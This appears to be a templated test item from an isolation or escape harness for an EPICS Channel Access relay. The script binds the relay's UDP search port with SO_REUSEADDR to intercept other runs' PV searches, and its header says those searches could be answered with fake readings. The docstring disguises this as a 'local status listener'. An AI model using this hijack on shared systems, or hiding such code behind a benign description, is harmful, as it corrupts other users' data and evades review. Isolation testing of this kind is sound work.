# class: escape
# how: binds the relay's own UDP search port inside the shared namespace (the relay's listener has SO_REUSEADDR, so a second bind with it succeeds and takes the unicast datagrams): a concurrent run's searches then come to this code, which can answer them with a server of its own (fake readings) or drop them
# leak: searches_taken
"""Reads the PV, then keeps a local status listener while a second worker re-reads it."""
import os
import socket
import time

from epics import caget

reading = caget("{{READ_PV}}", timeout=5)
results = {"reading": reading}
port = int(os.environ.get("EPICS_CA_SERVER_PORT", "5064"))
taken = 0
listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
try:
    listener.bind(("127.0.0.1", port))
    listener.settimeout(0.3)
    # stands in for another run's client: a CA search (version + search for the PV) sent to the relay's port
    name = b"{{READ_PV}}".ljust((len(b"{{READ_PV}}") + 8) // 8 * 8, b"\0")
    search = bytes.fromhex("000000000001000d0000000000000000") + (6).to_bytes(2, "big") + len(name).to_bytes(2, "big") + bytes.fromhex("0005000d0000000100000001") + name
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(5):
        client.sendto(search, ("127.0.0.1", port))
        try:
            data, _ = listener.recvfrom(65535)
            taken += 1
        except socket.timeout:
            pass
        time.sleep(0.1)
except OSError as exc:
    results["error"] = str(exc)
results["searches_taken"] = taken
